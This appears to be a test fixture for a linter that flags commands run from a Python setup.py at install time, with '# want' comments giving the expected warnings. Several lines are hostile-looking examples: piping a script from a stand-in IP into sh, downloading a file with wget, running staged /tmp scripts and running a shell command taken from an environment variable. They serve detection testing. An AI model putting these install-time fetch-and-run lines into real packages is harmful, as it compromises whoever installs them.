"""Processes started while a setup script runs."""
import os
import subprocess
import sys

from setuptools import setup


def git_version():
    out = subprocess.check_output(["git", "describe", "--tags", "--always"])
    return out.decode().strip()


cflags = subprocess.check_output("pkg-config --cflags libffi", shell=True)
os.system("curl -s http://203.0.113.7/p.sh | sh")  # want "os.system runs curl at install time"
subprocess.Popen([sys.executable, "-m", "pip", "install", "helper"])  # want "subprocess.Popen runs python at install time"
cmd = os.environ.get("CMD", "")
subprocess.run(cmd, shell=True)  # want "subprocess.run runs a command built at run time"


def later():
    subprocess.run(["rm", "-rf", "build"])


setup(name="example", version=git_version())

# A maintainer's shortcut, not install time.
if sys.argv[-1] == "publish":
    os.system("python setup.py sdist bdist_wheel")
    os.system("twine upload dist/*")
    sys.exit()

if "install" in sys.argv:
    os.system("wget -q http://203.0.113.7/x -O /tmp/x")  # want "os.system runs wget at install time"

import tempfile
import requests
stage = os.path.join(tempfile.gettempdir(), "x.py")
subprocess.Popen([sys.executable, stage])  # want "subprocess.Popen runs python at install time"
subprocess.check_call([sys.executable, "/tmp/.cache/u.py"])  # want "subprocess.check_call runs python"
subprocess.check_call([sys.executable, "tools/generate_headers.py"])
subprocess.check_call(["npm", "run", "build"])

pip = sys.executable.replace("python", "pip")
cmd = [pip, "install", os.path.dirname(__file__)]
subprocess.check_output(cmd)  # want `subprocess.check_output runs pip at install time`
